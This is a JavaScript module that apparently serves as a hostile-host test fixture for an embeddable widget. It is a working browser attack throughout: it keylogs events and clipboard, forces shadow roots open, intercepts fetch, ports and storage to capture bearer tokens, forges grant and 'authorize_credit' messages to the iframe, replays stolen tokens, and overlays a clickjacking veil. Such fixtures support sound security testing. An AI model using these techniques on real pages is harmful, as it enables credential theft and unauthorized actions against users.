// A partner's page gone bad: runs before anything of Embed, keeps all it can hear in `window.hostile`,
// and goes at the frame with whatever it has caught.
export {};

const heard = [];
const ports = [];
const tokens = new Set();
const roots = [];
const note = (what, value) => heard.push(`${what} ${written(value)}`);

function written(value) {
  if (typeof value === 'string') return value;
  try {
    return JSON.stringify(value) ?? String(value);
  } catch {
    return String(value);
  }
}

// Every root it can get, and every change within.
const attach = Element.prototype.attachShadow;
Element.prototype.attachShadow = function (init) {
  const root = attach.call(this, { ...init, mode: 'open' });
  roots.push(root);
  const watching = { subtree: true, childList: true, characterData: true, attributes: true };
  new MutationObserver((changes) => {
    for (const { target } of changes) note('change', target.outerHTML ?? target.textContent);
  }).observe(root, watching);
  return root;
};

// Every event that a window can hear, before anybody else does.
const own = 'svc-ready svc-screen-changed svc-todo-open svc-failed svc-exited svc-session-expired';
const standard = [];
for (const name in window) if (name.startsWith('on')) standard.push(name.slice(2));
for (const type of new Set([
  ...standard,
  ...'beforeinput input compositionupdate paste copy focusin focusout'.split(' '),
  ...own.split(' '),
]))
  window.addEventListener(
    type,
    (event) => {
      const { key = '', data = '', target } = event;
      note(type, `${key}|${written(data)}|${target?.value ?? ''}`);
      if (event.clipboardData) note('clipboard', event.clipboardData.getData('text'));
    },
    true,
  );

// Both ends of every port the page makes or is given.
const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (...args) {
  if (!ports.includes(this)) ports.push(this);
  note('port says', args[0]);
  return post.apply(this, args);
};
const handler = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
Object.defineProperty(MessagePort.prototype, 'onmessage', {
  set(listener) {
    handler.set.call(this, (event) => {
      note('port hears', event.data);
      listener.call(this, event);
    });
  },
});

// Everything that is sent and everything that comes back.
const realFetch = window.fetch;
window.fetch = async (input, init) => {
  const request = new Request(input, init);
  const headers = [...request.headers];
  for (const [name, value] of headers) if (name === 'authorization') tokens.add(value);
  note('sends', `${request.url} ${written(headers)} ${await request.clone().text()}`);
  const response = await realFetch(request);
  const streams = response.headers.get('content-type')?.startsWith('text/event-stream');
  if (!streams) note('gets', await response.clone().text());
  return response;
};
for (const [type, method] of [
  [XMLHttpRequest, 'send'],
  [WebSocket, 'send'],
  [Navigator, 'sendBeacon'],
  [Storage, 'setItem'],
  [Window, 'open'],
]) {
  const holder = type === Window ? window : type.prototype;
  const real = holder[method];
  holder[method] = function (...args) {
    note(method, args);
    return real.apply(this, args);
  };
}
new PerformanceObserver((list) => {
  for (const { name } of list.getEntries()) note('loads', name);
}).observe({ type: 'resource', buffered: true });

const iframe = () => roots.map((root) => root.querySelector('iframe')).find(Boolean);

/** Whatever can be read of the frame: what came out of each way in. */
function reach() {
  const { contentWindow } = iframe() ?? {};
  if (!contentWindow) return [];
  const ways = {
    document: () => contentWindow.document.body.innerHTML,
    contentDocument: () => iframe().contentDocument?.body.innerHTML,
    element: () => contentWindow.frameElement?.outerHTML,
    evaluate: () => contentWindow.eval('document.body.innerHTML'),
    customElements: () => contentWindow.customElements.get('svc-status'),
    selection: () => contentWindow.getSelection().toString(),
  };
  return Object.entries(ways).flatMap(([way, go]) => {
    try {
      const found = go();
      return found === undefined || found === null ? [] : [`${way}: ${found}`];
    } catch {
      return [];
    }
  });
}

/** Says to the frame, by every way there is, what it may be waiting for: false greetings, second ports, its own grants. */
function forge(grant) {
  const { contentWindow } = iframe();
  const start = { type: 'start', grant, heading_level: 2 };
  const answers = [];
  for (const message of [{ svc: 'port', protocol: 1 }, start, { type: 'grant', grant }, 'svc']) {
    const { port1, port2 } = new MessageChannel();
    handler.set.call(port1, ({ data }) => answers.push(data));
    contentWindow.postMessage(message, '*', [port2]);
    post.call(port1, start);
  }
  const acts = [{ type: 'act', action: 'authorize_credit' }, { type: 'done' }, { type: 'submit' }];
  for (const port of ports) for (const message of [start, ...acts]) post.call(port, message);
  for (const key of ['Enter', ' ', '1'])
    iframe().dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, composed: true }));
  for (const type of ['mousedown', 'mouseup', 'click'])
    iframe().dispatchEvent(new MouseEvent(type, { bubbles: true, clientX: 40, clientY: 40 }));
  return answers;
}

/** Calls the service with every token the page has caught. */
async function send(url, body) {
  const answers = [];
  for (const authorization of tokens) {
    const headers = {
      authorization,
      'content-type': 'application/json',
      'idempotency-key': crypto.randomUUID(),
    };
    answers.push(
      await realFetch(url, { method: 'POST', headers, body: JSON.stringify(body) }).then(
        async (response) => ({ status: response.status, body: await response.json() }),
        // No answer that a page may read.
        () => ({ status: 0 }),
      ),
    );
  }
  return answers;
}

/** Lays something over everything that lets every click through. */
function cover() {
  const veil = document.createElement('div');
  veil.id = 'veil';
  Object.assign(veil.style, { position: 'fixed', inset: '0', background: '#fff', opacity: '.98' });
  veil.style.pointerEvents = 'none';
  document.body.append(veil);
}

/** All the page has: what it heard, and what it can read now. */
function all() {
  const seen = roots.map((root) => root.innerHTML);
  const stored = written([{ ...localStorage }, { ...sessionStorage }, document.cookie]);
  return [...heard, document.documentElement.outerHTML, ...seen, stored, ...reach()].join('\n');
}

let mark = 0;

window.hostile = {
  all,
  cover,
  forge,
  iframe,
  post: send,
  reach,
  take: (grant) => tokens.add(`Bearer ${grant}`),
  uncover: () => document.getElementById('veil').remove(),
  /** What it has heard that matches, or undefined. */
  find: (pattern) => pattern.exec(heard.join('\n'))?.[0],
  /** From here on no key is the page's. */
  mark: () => {
    mark = heard.length;
  },
  keysSinceMark: () =>
    heard.slice(mark).filter((line) => /^(key|input|beforeinput|paste)/.test(line)),
};
